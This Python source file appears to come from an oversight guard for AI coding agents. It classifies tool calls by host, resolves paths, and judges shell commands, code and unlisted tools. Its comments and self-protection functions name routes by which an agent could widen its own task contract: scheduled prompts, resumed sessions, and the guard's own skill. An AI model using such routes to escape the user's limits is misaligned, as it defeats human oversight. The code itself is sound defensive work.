# For a tool no table covers (MCP, plugins): the whole words of its name (split
# at `_`), write words first, else read words, else unknown.
_FALLBACK_WRITE_WORDS = frozenset((
    "add append apply archive close commit copy create delete deploy edit install merge "
    "move patch post publish push remove rename send set submit update upload write").split())
_FALLBACK_READ_WORDS = frozenset((
    "cat check diff fetch find get inspect list load open read review search show status "
    "view").split())


def fallback_mutability(name: str) -> str:
    """Classify an unlisted tool (MCP, plugin) by the words of its name."""
    words = [w for w in name.lower().split("_") if w]
    if any(w in _FALLBACK_WRITE_WORDS for w in words):
        return "write"
    if any(w in _FALLBACK_READ_WORDS for w in words):
        return "read"
    return "unknown"


# ---- what the host itself does with a path ----------------------------------
# A path is judged the way the host resolves it, before files= and
# self-protection see it.  The core reads a leading `~` as the home folder;
# hosts differ, so each adapter hands over the path the host will open:
# expanded where the host expands, marked `./~` where `~` is a plain name.

# Host -> which leading-`~` forms its file tools expand: "none" (a plain
# folder name), "home" (`~` and `~/` only; `~user` is a plain name) or "all"
# (`~user` too).
_HOST_TILDE: Dict[str, str] = {
    "codex": "none", "claude": "home", "opencode": "none", "hermes": "all",
    "pi": "home", "omp": "all", "gemini": "none", "copilot": "none", "qwen": "none",
}


def host_paths(host: str, path: Any) -> List[Any]:
    """The paths the host may open for `path`, as to its leading `~` (see
    _HOST_TILDE): the home folder where it expands it, else a folder literally
    named `~` (`./~…`).  Where `~` stays a plain name both readings are
    judged: a model can create that folder, and no host's reading is taken
    on trust that the other would be harmless.

    Other host rules (Pi's `@`, Oh My Pi's `file://`, ...) are applied by the
    host's own adapter first; this is the last, shared step."""
    if not isinstance(path, str):
        return [path]
    text = path.strip()
    if not text.startswith("~"):
        return [path]
    rule = _HOST_TILDE.get(host, "none")
    home_form = text == "~" or text.startswith(("~/", "~\\"))
    expanded = os.path.expanduser(text.replace("\\", "/", 1) if home_form else text)
    literal = "./" + text
    if rule == "all" or (rule == "home" and home_form):
        return [expanded] if not expanded.startswith("~") else [literal]
    return [literal] if expanded.startswith("~") else [literal, expanded]


def run_folder(host: str, cwd: Optional[str], workdir: Any) -> Tuple[Optional[str], bool]:
    """(folder, known): where a shell tool's command runs when the call names
    its own working folder (Codex `workdir`, OpenCode `workdir`, Hermes
    `workdir`, Oh My Pi `cwd`).  A relative folder is taken from the session
    folder; `known` is False when the folder cannot be established (an
    internal URL, a variable, no session folder to start from)."""
    if workdir is None or workdir == "":
        return cwd, True
    if not isinstance(workdir, str) or not workdir.strip():
        return cwd, False
    text = workdir.strip()
    if "://" in text or text.startswith("local:") or "$" in text or "%" in text:
        return cwd, False  # internal URLs and variables: not a folder we can name
    readings = host_paths(host, text)
    if len(readings) > 1:
        return cwd, False  # the host's own reading of `~` here is not certain
    text = readings[0]
    if text.startswith("./~"):
        text = text[2:]  # a plain folder named `~`, below the session folder
    elif os.path.isabs(text) or _is_windows_path(text):
        return text, True
    if not cwd:
        return cwd, False
    return os.path.join(cwd, text), True


def _in_run_folder(action: dict, folder: Optional[str], known: bool, cwd: Optional[str]) -> dict:
    """Re-anchor a shell action's relative write targets in its run folder."""
    if folder == cwd and known:
        return action
    if not known:
        if any(not (t.startswith(("/", "~")) or _is_windows_path(t))
               for t in action.get("shellWriteTargets") or []):
            action["unknownWriteTarget"] = True  # relative targets in an unknown folder
        return action
    targets = []
    for target in action.get("shellWriteTargets") or []:
        if target.startswith(("/", "~")) or _is_windows_path(target) or not folder:
            targets.append(target)
        else:
            targets.append(os.path.join(folder, target))
    action["shellWriteTargets"] = targets
    return action


# Argument names that name a file or folder, in the tools a host does not
# document to us (MCP servers, plugins); compared lower-case, without `_`/`-`.
_PATH_KEYS = frozenset((
    "path", "paths", "file", "files", "filepath", "filepaths", "filename", "filenames",
    "source", "sources", "destination", "destinations", "src", "dst", "dest", "target",
    "targets", "from", "to", "oldpath", "newpath", "old", "new", "directory", "directories",
    "dir", "dirs", "folder", "folders", "cwd", "workdir", "workingdirectory", "root", "uri",
    "uris", "location", "output", "outputpath", "outputfile", "input", "inputpath", "inputfile",
    "notebookpath", "sourcepath", "targetpath", "destinationpath", "newname", "oldname",
))
_PATH_ARG_LIMIT = 64


def _looks_like_path(text: str) -> bool:
    """A single token that a file tool would take for a path: it has a
    separator, starts with `~`/`.`, or is a file name with an extension."""
    if not text or len(text) > 4096 or "\n" in text or text != text.strip():
        return False
    if " " in text or "\t" in text:
        return False
    if text.startswith(("~", ".", "/", "file:")) or "/" in text or "\\" in text:
        return True
    stem, dot, ext = text.rpartition(".")
    return bool(dot and stem and 0 < len(ext) <= 8 and ext.isalnum())


def path_arguments(tool_input: Any) -> Tuple[List[str], bool]:
    """(paths, complete) for a tool the guard does not know: every argument
    that names a file, at any depth and in every list, is a possible target.

    An argument counts when its name says so (`source`, `destination`,
    `path`, ...) or its value reads like a path.  `complete` is False when
    there were more than the guard looks at, so the rest stay unestablished."""
    found: List[str] = []
    complete = True

    def visit(value: Any, keyed: bool, depth: int) -> None:
        nonlocal complete
        if depth > 6 or len(found) > _PATH_ARG_LIMIT:
            complete = False
            return
        if isinstance(value, str):
            text = value.strip()
            if text.lower().startswith("file://"):
                text = text[7:]
            if text and ((keyed and "\n" not in text and len(text) <= 4096)
                         or _looks_like_path(text)):
                if text not in found:
                    found.append(text)
        elif isinstance(value, dict):
            for key, item in value.items():
                name = str(key).lower().replace("_", "").replace("-", "")
                visit(item, name in _PATH_KEYS, depth + 1)
        elif isinstance(value, list):
            for item in value:
                visit(item, keyed, depth + 1)

    visit(tool_input, False, 0)
    if len(found) > _PATH_ARG_LIMIT:
        return found[:_PATH_ARG_LIMIT], False
    return found, complete


def unlisted_action(name: str, tool_input: Any, mutability: str) -> dict:
    """A tool no table lists: its name's verdict, every path it may touch,
    and the shell analysis of a command it may run."""
    action: dict = {"name": name, "mutability": mutability}
    if isinstance(tool_input, dict):
        command = _first_text(tool_input, "command", "cmd", "script")
        code = _first_text(tool_input, "code", "source_code")
        ran = None
        if command is not None:
            ran = shell_action(name, command)
        elif code is not None:
            ran = code_action(name, _first_text(tool_input, "language", "lang") or "", code)
        if ran is not None:
            # It may run this: the same intents as through the shell, and never
            # a better verdict than the name earned.
            for key in ("hashIntent", "dependencyIntent", "startsAgent", "unknownWriteTarget"):
                if ran.get(key):
                    action[key] = ran[key]
            if ran.get("shellWriteTargets"):
                action["shellWriteTargets"] = ran["shellWriteTargets"]
            if mutability == "read" and ran["mutability"] != "read":
                action["mutability"] = ran["mutability"]
    if action["mutability"] != "read":
        paths, complete = path_arguments(tool_input)
        if paths and action["mutability"] == "write":
            action["affectedPaths"] = paths
        elif paths:
            # An unproven tool may touch these, and maybe more: self-protection
            # judges them, while files= still finds its targets unproven.
            action["shellWriteTargets"] = action.get("shellWriteTargets", []) + paths
        if not complete:
            action["unknownWriteTarget"] = True
    return action


# Languages a code-running tool may be given -> the interpreter the shell
# analyzer reads inline code for.
_CODE_LANGUAGES: Dict[str, str] = {
    "py": "python3", "python": "python3", "python3": "python3", "ipython": "python3",
    "js": "node", "javascript": "node", "node": "node", "ts": "deno", "typescript": "deno",
    "rb": "ruby", "ruby": "ruby", "pl": "perl", "perl": "perl", "php": "php",
    "sh": "bash", "bash": "bash", "shell": "bash", "zsh": "bash",
}


def code_action(name: str, language: str, code: Any) -> dict:
    """A tool that runs code (Hermes `execute_code`, Oh My Pi `eval`, ...):
    the same analysis the shell gets for that code given to its interpreter
    inline, so hashing, dependencies, agents and writes are found alike.  An
    unknown language is unproven."""
    interpreter = _CODE_LANGUAGES.get(language.strip().lower(), "python3" if not language else "")
    if not isinstance(code, str) or not interpreter:
        return {"name": name, "mutability": "unknown", "analysisReason": "interpreter_code"}
    if interpreter == "bash":
        return shell_action(name, code)
    import shlex
    flag = {"node": "-e", "ruby": "-e", "perl": "-e", "php": "-r", "deno": "eval"}.get(
        interpreter, "-c")
    action = shell_action(name, "%s %s %s" % (interpreter, flag, shlex.quote(code)))
    action.pop("command", None)  # not a shell line: never a thrash candidate
    if action["mutability"] == "read":
        action["mutability"] = "unknown"
    # Commands the code hands to a shell or to subprocess (`os.system("npm i
    # x")`, `run(["sha256sum", f])`, `execSync('claude -p …')`) carry the same
    # intents as typed into the shell.
    lines, paths = _code_commands(code)
    for line in lines:
        ran = analyze_shell(line)
        action["hashIntent"] = action["hashIntent"] or ran.hash_intent
        action["dependencyIntent"] = action["dependencyIntent"] or ran.dependency_intent
        if ran.starts_agent and not action.get("startsAgent"):
            action["startsAgent"] = ran.starts_agent
    # Code can write any file it names: the literals that read like paths are
    # possible targets (names it builds at run time stay as unseen as for
    # the same code given to the interpreter in the shell).
    action["shellWriteTargets"] = list(dict.fromkeys(action["shellWriteTargets"] + paths))
    return action


_CODE_COMMAND_LIMIT = 200


def _code_commands(code: str) -> Tuple[List[str], List[str]]:
    """(command lines, paths) a piece of code spells out: every string literal
    holding a blank, and every bracketed list of string literals joined by
    blanks; and the literals that read like paths."""
    if len(code) > _MAX_COMMAND:
        return [], []
    literal = _an_rx("code_literal", r"'((?:[^'\\\n]|\\.){1,2000})'|\"((?:[^\"\\\n]|\\.){1,2000})\"")
    found: List[str] = []
    paths: List[str] = []
    for match in literal.finditer(code):
        text = match.group(1) if match.group(1) is not None else match.group(2)
        if " " in text.strip():
            found.append(text)
        elif _looks_like_path(text) and len(paths) < _CODE_COMMAND_LIMIT:
            paths.append(text)
        if len(found) >= _CODE_COMMAND_LIMIT:
            return found, paths
    for match in _an_rx("code_argv", r"\[([^\[\]\n]{1,4000})\]").finditer(code):
        words = [m.group(1) if m.group(1) is not None else m.group(2)
                 for m in literal.finditer(match.group(1))]
        if len(words) >= 2:
            import shlex
            found.append(" ".join(shlex.quote(w) for w in words))
        if len(found) >= _CODE_COMMAND_LIMIT:
            break
    return found, paths


def argv_action(name: str, program: Any, args: Any, env: Any = None) -> dict:
    """A tool that starts a program from an argv list (Oh My Pi `hub start`):
    judged as the same command typed into the shell, environment included."""
    if not _is_text(program) or not isinstance(args, (list, type(None))) \
            or not all(isinstance(a, str) for a in args or []):
        return {"name": name, "mutability": "unknown"}
    import shlex
    words = [shlex.quote(program)] + [shlex.quote(a) for a in args or []]
    return shell_action(name, _with_env(env) + " ".join(words))


def _with_env(env: Any) -> str:
    """`K=V ` prefixes for the environment a tool passes to its command, so the
    analyzer judges what those variables change (GIT_*, LD_PRELOAD, PATH)."""
    if not isinstance(env, dict) or not env:
        return ""
    import shlex
    parts = []
    for key, value in env.items():
        if not isinstance(key, str) or not key.replace("_", "a").isalnum() or key[:1].isdigit():
            return "env -i "  # a name the shell cannot take: not provably harmless
        parts.append("%s=%s" % (key, shlex.quote(value if isinstance(value, str) else str(value))))
    return " ".join(parts) + " "


# The name a call is audited under when the host sent no usable tool name.
_UNNAMED_TOOL = "(no tool name)"


def unreadable_call() -> dict:
    """A tool call whose name is missing or not a string (`null`, `42`): it is
    judged and audited as unproven, like any call the guard cannot read, and
    never passes in silence."""
    return {"name": _UNNAMED_TOOL, "mutability": "unknown"}


def tool_facts(host: str, tool: str) -> Tuple[Tuple[str, ...], str, str]:
    """(path arguments, runs, working-folder argument) of one tool (ADAPTER_TOOLS)."""
    return ADAPTER_TOOLS.get(host, {}).get(tool, ((), "", ""))


def place_call(host: str, tool: str, action: dict, tool_input: Any, cwd: Optional[str]) -> dict:
    """Apply the host's own path rules to an action before the core sees it:
    paths as the host resolves them, and a command's relative write targets in
    the folder the call says it runs in."""
    if action.get("affectedPaths"):
        action["affectedPaths"] = normalize_paths(
            [q for p in action["affectedPaths"] for q in host_paths(host, p)], cwd)
    workdir = tool_facts(host, tool)[2]
    if workdir and isinstance(tool_input, dict) and tool_input.get(workdir) not in (None, ""):
        folder, known = run_folder(host, cwd, tool_input.get(workdir))
        _in_run_folder(action, folder, known, cwd)
    return action


def _session_state_folder() -> str:
    """Where contracts live.  A call that would deliver model-written text as a
    prompt (a scheduled prompt, a resumed session) names it as its target, so
    self-protection stops it while the guard is armed: the model never sets or
    widens its own contract."""
    return os.path.join(data_dir(), "sessions")


def _shell_kind(powershell: bool = False) -> str:
    if powershell:
        return "powershell"
    return "unknown" if os.name == "nt" else "bash"


def shell_action(name: str, command: Any, *, powershell: bool = False) -> dict:
    """The action fields of a shell tool call, from the one analyzer."""
    shell = _shell_kind(powershell)
    verdict = analyze_shell(command, shell)
    action = {"name": name, "mutability": verdict.mutability,
              "hashIntent": verdict.hash_intent, "dependencyIntent": verdict.dependency_intent,
              "shellWriteTargets": list(verdict.write_targets)}
    if verdict.write_patterns:
        action["shellWritePatterns"] = list(verdict.write_patterns)
    if verdict.unknown_target:
        action["unknownWriteTarget"] = True
    if verdict.starts_agent:
        action["startsAgent"] = verdict.starts_agent
        if verdict.resumes_session:
            # The model's text would arrive in an existing session (this one,
            # likely) as a prompt: that writes contract state, never allowed
            # to the model while the guard is armed.
            action["shellWriteTargets"].append(_session_state_folder())
    if verdict.reason is not None:
        action["analysisReason"] = verdict.reason
    if isinstance(command, str):
        action["command"] = command
        if shell != "bash":
            action["shell"] = shell
    return action


def file_write_action(name: str, path: Any, added: Any = None, removed: Any = None,
                      *, whole_file: bool = True) -> dict:
    """A file tool that writes `path`: hash intent from the added text, dependency intent
    when the file is a manifest.  whole_file: `added` is the full new content (Write)."""
    added_text = added if isinstance(added, str) else ""
    path_text = path if isinstance(path, str) else None
    old = None if whole_file else (removed if isinstance(removed, str) else "")
    # An edit that keeps an existing hash call is not new hashing: only what
    # the replacement adds over the replaced text counts.
    action = {"name": name, "mutability": "write",
              "affectedPaths": [path_text] if path_text else [],
              "hashIntent": bool(added_text) and hash_intent_in_text(
                  added_text, path_text, removed_text=old)}
    action["dependencyIntent"] = bool(added_text) and dependency_intent_in_change(
        path_text, old, added_text)
    if action["hashIntent"] or action["dependencyIntent"]:
        action["changes"] = [{"path": path_text, "old": old, "new": added_text}]
    return action


def patch_action(name: str, patch_text: Any) -> dict:
    summary = analyze_patch(patch_text)
    action = {"name": name, "mutability": "write", "affectedPaths": list(summary.paths),
              "hashIntent": summary.hash_intent, "dependencyIntent": summary.dependency_intent}
    if summary.hash_intent or summary.dependency_intent:
        action["changes"] = [{"patch": patch_text}]
    return action


def directive_rejected_text(error: dict, paused: bool = False) -> str:
    """The one wording every host uses for a rejected directive, so tooling
    reads one form: `Stop That Shit: directive rejected (CODE): message.`
    paused: the host cannot refuse the prompt itself (Hermes, OpenCode), so
    its tools wait for a corrected directive instead."""
    code = error.get("code") or "INVALID_DIRECTIVE"
    message = (error.get("message") or "the directive could not be parsed").rstrip(". ")
    text = ("Stop That Shit: directive rejected (%s): %s. The previous task contract still "
            "applies; correct the directive and send it again." % (code, message))
    if paused:
        text += " Tools stay paused until the user sends a corrected directive."
    return text


def rejection_of(result: CoreResult) -> Optional[dict]:
    """{code, message} when a prompt-error is a rejected directive (the core's
    `CODE: message`), else None (a directive that could not be saved)."""
    prefix = (result.code or "") + ": "
    if result.kind != "prompt-error" or not result.code or not result.text.startswith(prefix):
        return None
    return {"code": result.code, "message": result.text[len(prefix):]}


def _first_text(obj: Any, *keys: str) -> Optional[str]:
    if not isinstance(obj, dict):
        return None
    for key in keys:
        value = obj.get(key)
        if isinstance(value, str) and value:
            return value
    return None


def _as_object(value: Any) -> Any:
    """Tool responses arrive as objects or as JSON strings."""
    if isinstance(value, str):
        try:
            return json.loads(value)
        except ValueError:
            return value
    return value


# ---- the adapters table: every tool of every host ---------------------------
# One place to read what each host's tools do with the file system: which
# arguments name paths, whether the tool runs code or programs, and where it
# runs.  Each host's TOOLS (below) says how a call is classified; this table
# says what it touches, and tests/test_adapters_table.py holds the two equal.
#
# host -> tool -> (path arguments, runs, working-folder argument)
#   path arguments: the input fields naming files or folders the tool touches
#     (patch texts name theirs in `*** ... File:` headers, listed as such);
#   runs: "" nothing; "shell"/"powershell" a command line (the shell
#     analyzer); "code" source code for an interpreter (the same analyzer,
#     inline code); "program" an argv; "agent" starts a subagent; "input"
#     feeds a running program; "prompt" schedules text that comes back as a
#     prompt;
#   working-folder argument: where the command runs and relative targets
#     land, when the call may name it ("" = the session folder).
# A tool not listed for its host is judged by its name (Codex, Claude Code,
# OpenCode) or is unproven (Hermes, Pi, Oh My Pi); either way every argument
# that looks like a path is a possible target (`path_arguments`), and a
# `command`/`code` argument gets the shell's analysis (`unlisted_action`).
ADAPTER_TOOLS: Dict[str, Dict[str, Tuple[Tuple[str, ...], str, str]]] = {
    "codex": {
        # Codex resolves exec_command's `workdir` itself: the hook gets only the
        # command, with the folder as the event's cwd (seen on 0.171.0).
        "Bash": ((), "shell", ""), "exec_command": ((), "shell", ""),
        "shell_command": ((), "shell", ""),
        "apply_patch": (("command: *** Add/Update/Delete File, *** Move to",), "", ""),
        "Edit": (("file_path", "path"), "", ""), "Write": (("file_path", "path"), "", ""),
        "spawn_agent": ((), "agent", ""), "Agent": ((), "agent", ""),
        "write_stdin": ((), "input", ""),
        **{tool: ((), "", "") for tool in (
            "update_plan", "request_user_input", "wait", "wait_agent", "interrupt_agent",
            "close_agent", "list_agents", "send_message", "send_input", "resume_agent",
            "followup_task", "create_goal", "update_goal", "get_goal")},
    },
    "claude": {
        "Write": (("file_path", "path"), "", ""), "Edit": (("file_path", "path"), "", ""),
        "MultiEdit": (("file_path", "path"), "", ""), "NotebookEdit": (("notebook_path",), "", ""), "EnterWorktree": ((), "", ""),
        "Bash": ((), "shell", ""), "Monitor": ((), "shell", ""),
        "PowerShell": ((), "powershell", ""),
        "Agent": ((), "agent", ""), "Task": ((), "agent", ""), "Workflow": ((), "agent", ""),
        "Read": (("file_path",), "", ""), "Glob": (("path",), "", ""), "Grep": (("path",), "", ""),
        "LSP": (("filePath",), "", ""),
        "CronCreate": ((), "prompt", ""), "ScheduleWakeup": ((), "prompt", ""),
        "Skill": ((), "prompt", ""),
        **{tool: ((), "", "") for tool in (
            "ListAgents", "ListMcpResourcesTool", "ReadMcpResourceTool", "WebFetch",
            "WebSearch", "AskUserQuestion", "CronDelete", "CronList", "EndConversation",
            "EnterPlanMode", "ExitPlanMode", "ExitWorktree", "PushNotification",
            "ReportFindings", "SendMessage", "TodoWrite", "TaskCreate", "TaskUpdate",
            "TaskList", "TaskGet", "TaskOutput", "TaskStop", "ToolSearch", "WaitForMcpServers")},
    },
    "opencode": {
        "write": (("filePath",), "", ""), "edit": (("filePath",), "", ""),
        "apply_patch": (("patchText: *** Add/Update/Delete File, *** Move to",), "", ""),
        "bash": ((), "shell", "workdir"), "task": ((), "agent", ""),
        "read": (("filePath",), "", ""), "glob": (("path",), "", ""), "grep": (("path",), "", ""),
        "lsp": (("filePath",), "", ""),
        **{tool: ((), "", "") for tool in (
            "webfetch", "websearch", "plan_enter", "plan_exit", "question", "skill",
            "todowrite")},
    },
    "hermes": {
        "write_file": (("path",), "", ""), "patch": (("path", "patch: *** ... File:"), "", ""),
        "terminal": ((), "shell", "workdir"), "execute_code": ((), "code", ""),
        "delegate_task": ((), "agent", ""), "cronjob": ((), "prompt", ""),
        "read_file": (("path",), "", ""), "search_files": (("path",), "", ""),
        **{tool: ((), "", "") for tool in (
            "web_search", "web_extract", "vision_analyze", "session_search", "skill_view",
            "skills_list", "clarify", "todo")},
    },
    "pi": {
        "write": (("path",), "", ""), "edit": (("path",), "", ""),
        "bash": ((), "shell", ""), "powershell": ((), "powershell", ""),
        "subagent": ((), "agent", ""),
        "read": (("path",), "", ""), "grep": (("path",), "", ""), "find": (("path",), "", ""),
        "ls": (("path",), "", ""),
    },
    "omp": {
        "write": (("path",), "", ""),
        "edit": (("path", "paths", "edits[].rename", "input: [PATH#TAG], *** Edit File:"), "", ""),
        "bash": ((), "shell", "cwd"), "powershell": ((), "powershell", "cwd"),
        "eval": ((), "code", ""), "hub": ((), "program", "cwd"),
        "task": ((), "agent", ""), "subagent": ((), "agent", ""),
        "read": (("path",), "", ""), "grep": (("path",), "", ""), "find": (("path",), "", ""),
        "ls": (("path",), "", ""), "glob": (("path",), "", ""),
        **{tool: ((), "", "") for tool in ("web_search", "ask", "todo", "yield")},
    },
    "gemini": {
        "write_file": (("file_path",), "", ""), "replace": (("file_path",), "", ""),
        "save_memory": ((), "", ""),
        "run_shell_command": ((), "shell", "dir_path"),
        **{tool: ((), "agent", "") for tool in (
            "invoke_agent", "codebase_investigator", "cli_help", "generalist", "browser_agent")},
        "read_file": (("file_path",), "", ""), "read_many_files": (("include",), "", ""),
        "list_directory": (("dir_path",), "", ""), "glob": (("dir_path",), "", ""),
        "grep_search": (("dir_path",), "", ""), "search_file_content": (("dir_path",), "", ""),
        **{tool: ((), "", "") for tool in (
            "google_web_search", "web_fetch", "get_internal_docs", "read_mcp_resource",
            "list_mcp_resources", "list_background_processes", "read_background_output",
            "tracker_get_task", "tracker_list_tasks", "tracker_visualize", "take_snapshot",
            "write_todos", "ask_user", "enter_plan_mode", "exit_plan_mode", "update_topic",
            "activate_skill", "complete_task", "tracker_create_task", "tracker_update_task",
            "tracker_add_dependency")},
    },
    "copilot": {
        "bash": ((), "shell", ""), "powershell": ((), "powershell", ""),
        "create": (("path",), "", ""), "edit": (("path",), "", ""),
        "str_replace_editor": (("path",), "", ""),
        "apply_patch": (("input: *** Add/Update/Delete File, *** Move to",), "", ""),
        "task": ((), "agent", ""), "write_agent": ((), "agent", ""),
        "write_bash": ((), "input", ""), "write_powershell": ((), "input", ""),
        "view": (("path",), "", ""), "grep": (("path",), "", ""), "glob": (("path",), "", ""),
        **{tool: ((), "", "") for tool in (
            "read_bash", "read_powershell", "list_bash", "list_powershell",
            "lexical_code_search", "semantic_code_search", "web_fetch",
            "fetch_copilot_cli_documentation", "session_store_sql", "read_agent", "list_agents",
            "stop_bash", "stop_powershell", "sql", "ask_user", "exit_plan_mode",
            "report_intent", "update_todo")},
        "skill": ((), "prompt", ""),
    },
    "qwen": {
        "write_file": (("file_path",), "", ""), "edit": (("file_path",), "", ""),
        "notebook_edit": (("notebook_path",), "", ""), "save_memory": ((), "", ""),
        "enter_worktree": ((), "", ""),
        "run_shell_command": ((), "shell", "directory"), "monitor": ((), "shell", ""),
        "agent": ((), "agent", ""), "workflow": ((), "agent", ""),
        "team_create": ((), "agent", ""), "create_sub_session": ((), "agent", ""),
        "send_message": ((), "agent", ""), "exec": ((), "code", ""),
        "tool_call": (("arguments: as the tool named",), "", ""),
        "cron_create": ((), "prompt", ""), "loop_wakeup": ((), "prompt", ""),
        "skill": ((), "prompt", ""),
        "read_file": (("file_path",), "", ""), "glob": (("path",), "", ""),
        "grep_search": (("path",), "", ""), "list_directory": (("path",), "", ""),
        **{tool: ((), "", "") for tool in (
            "web_fetch", "web_search", "lsp", "read_mcp_resource", "tool_search", "list_agents",
            "get_goal", "zoom_image", "display_image", "cron_list", "task_list",
            "omni_recall_media_memory", "todo_write", "exit_plan_mode",
            "enter_plan_mode", "ask_user_question", "cron_delete", "task_create", "task_update",
            "task_stop", "structured_output", "report_findings", "update_goal", "propose_goal",
            "request_shutdown", "team_delete", "team_plan_approval", "exit_worktree")},
    },
}

# Host -> how its file tools resolve a path the model wrote (the functions that
# apply it: `host_paths`, `pi_host_path`, `omp_host_path`, `omp_edit_candidates`).
HOST_PATH_RULES: Dict[str, str] = {
    "codex": "relative to the session folder; `~` is a plain folder name",
    "claude": "relative to the session folder; `~` and `~/` are the home folder, `~user` a "
              "plain name",
    "opencode": "relative to the session folder; `~` is a plain folder name",
    "hermes": "relative to the terminal's live folder (the plugin asks Hermes for it); `~`, "
              "`~/` and `~user` are home folders",
    "pi": "one leading `@` dropped, Unicode spaces made plain; `~` and `~/` are the home folder",
    "omp": "`:` and `@` prefixes dropped, `file://` decoded, `~`, `~/` and `~name` expanded; "
           "`edit` of a path that does not exist lands on the one workspace file whose path "
           "ends the same way",
    "gemini": "relative to the session folder; a leading `~` is judged both ways",
    "copilot": "relative to the session folder; a leading `~` is judged both ways",
    "qwen": "relative to the session folder; a leading `~` is judged both ways",
}


class Adapter:
    """Translate one host's events; subclasses fill the tables.

    EVENTS maps a host event name to the method that translates it.  Tool
    classification is table-driven per host (TOOLS: name -> bucket or method).
    """

    host = ""
    family = ""
    response_outcome = "permission_deny_returned"
    EVENTS: Dict[str, str] = {}

    def event_name(self, payload: dict) -> Optional[str]:
        name = payload.get("hook_event_name")
        return name if isinstance(name, str) else None

    def session_of(self, payload: dict) -> Optional[str]:
        value = payload.get("session_id")
        return value if _is_text(value) else None

    def translate(self, payload: dict, store: Store) -> Optional[HookCall]:
        name = self.event_name(payload)
        method = self.EVENTS.get(name) if name else None
        if method is None:
            return None
        return getattr(self, method)(payload, store, name)

    def render(self, result: CoreResult, call: HookCall) -> str:
        raise NotImplementedError

    def envelope(self, kind: str, session_id: str, **fields: Any) -> dict:
        event = {"protocolVersion": PROTOCOL_VERSION, "lifecycleVersion": LIFECYCLE_VERSION,
                 "kind": kind, "sessionId": session_id}
        event.update({k: v for k, v in fields.items() if v is not None})
        return event

    def host_meta(self, payload: dict) -> dict:
        meta = {"family": self.family}
        for key, target in (("model", "model"), ("permission_mode", "permissionMode"),
                            ("agent_id", "agentId"), ("agent_type", "agentType")):
            if isinstance(payload.get(key), str):
                meta[target] = payload[key]
        return meta


###############################################################################
# Adapters: Codex and Claude Code
#
# Command hooks: JSON on stdin, JSON on stdout, exit 0.
# Both hosts answer with the same hookSpecificOutput shapes, so they share
# one rendering; their event and tool tables differ.
###############################################################################


class _CommandHookAdapter(Adapter):
    """Codex and Claude Code: hookSpecificOutput answers, exit 0 always."""

    # Host events whose context result is shown to the model.
    CONTEXT_EVENTS: frozenset = frozenset()
    TOOLS: Dict[str, str] = {}
    # Tools that can restart an agent without run identity (finite budget -> deny).
    LIFECYCLE_UNPROVEN: frozenset = frozenset()

    def render(self, result: CoreResult, call: HookCall) -> str:
        if result.kind == "deny":
            reason = result.text or "Stop That Shit denied this call."  # never empty (Codex)
            return json.dumps({"hookSpecificOutput": {
                "hookEventName": "PreToolUse", "permissionDecision": "deny",
                "permissionDecisionReason": reason}}, ensure_ascii=False)
        if result.kind == "prompt-error":
            error = rejection_of(result)
            reason = directive_rejected_text(error) if error else result.text
            return json.dumps({"decision": "block", "reason": reason}, ensure_ascii=False)
        if result.kind == "context" and result.text and call.render \
                and call.host_event in self.CONTEXT_EVENTS:
            return json.dumps({"hookSpecificOutput": {
                "hookEventName": call.host_event, "additionalContext": result.text}},
                ensure_ascii=False)
        return ""

    def canonical_tool(self, name: str) -> str:
        return name

    def classify(self, name: str, tool_input: Any) -> dict:
        """Tool name and input -> action fields (without id and cwd)."""
        tool = self.canonical_tool(name)
        bucket = self.TOOLS.get(tool)
        if bucket is None:
            return self.classify_unlisted(name, tool_input)
        if bucket.startswith("_"):
            return getattr(self, bucket)(name, tool_input if isinstance(tool_input, dict) else {})
        action = {"name": name, "mutability": bucket}
        if bucket == "delegate":
            action["delegationCount"] = 1
        if tool in self.LIFECYCLE_UNPROVEN:
            action["delegationLifecycleUnproven"] = True
        return action

    def classify_unlisted(self, name: str, tool_input: Any) -> dict:
        return unlisted_action(name, tool_input, fallback_mutability(name))

    def _shell(self, name: str, tool_input: dict) -> dict:
        return shell_action(name, _first_text(tool_input, "command", "cmd"))

    def _powershell(self, name: str, tool_input: dict) -> dict:
        return shell_action(name, tool_input.get("command"), powershell=True)

    def _skill(self, name: str, tool_input: dict) -> dict:
        """A control, unless it loads this guard's own skill with arguments that
        would set the contract: the model may read the skill, never type the
        directive for the user."""
        action = {"name": name, "mutability": "control"}
        skill = _first_text(tool_input, "skill", "command", "name") or ""
        if skill.lstrip("/").rpartition(":")[2].strip().lower() == "stop-that-shit":
            args = " ".join(v for k, v in tool_input.items()
                            if isinstance(v, str) and k not in ("skill", "command", "name"))
            if args.strip() and _sets_contract("$stop-that-shit " + args):
                action["affectedPaths"] = [_session_state_folder()]
        return action

    def _scheduled_prompt(self, name: str, tool_input: dict) -> dict:
        """A control, unless the prompt it schedules would set the contract.

        A scheduled prompt comes back later as a prompt, so a model could
        schedule `$stop-that-shit open` (or "fix it" during a review) and
        widen its own contract.  That changes the session state in the
        guard's data folder, so it is named as such and self-protection
        stops it while the session is armed.
        """
        action = {"name": name, "mutability": "control"}
        texts = [value for value in tool_input.values() if isinstance(value, str)]
        if any(_sets_contract(text) for text in texts):
            action["affectedPaths"] = [_session_state_folder()]
        return action

    def _write_tool(self, name: str, tool_input: dict) -> dict:
        path = _first_text(tool_input, "file_path", "path")
        if "content" in tool_input:
            return file_write_action(name, path, tool_input.get("content"))
        return file_write_action(name, path, tool_input.get("new_string"),
                                 tool_input.get("old_string"), whole_file=False)

    def on_session_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        if session is None:
            return None
        return HookCall(name, self.envelope("session.start", session, host=self.host_meta(payload)))

    def on_session_end(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        if session is None:
            return None
        return HookCall(name, self.envelope("session.end", session), render=False)

    def prompt_text(self, payload: dict) -> Optional[str]:
        prompt = payload.get("prompt")
        return prompt if isinstance(prompt, str) else None

    def on_prompt(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        prompt = self.prompt_text(payload)
        if session is None or prompt is None:
            return None
        turn = payload.get("prompt_id") or payload.get("turn_id")
        return HookCall(name, self.envelope("prompt.submit", session, prompt=prompt,
                                            turnId=turn, host=self.host_meta(payload)))

    def on_pre_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        tool = payload.get("tool_name")
        if session is None:
            return None
        tool_input = payload.get("tool_input")
        action = self.classify(tool, tool_input) if _is_text(tool) else unreadable_call()
        call_id = payload.get("tool_use_id") or payload.get("tool_call_id")
        if _is_text(call_id):
            action["id"] = call_id
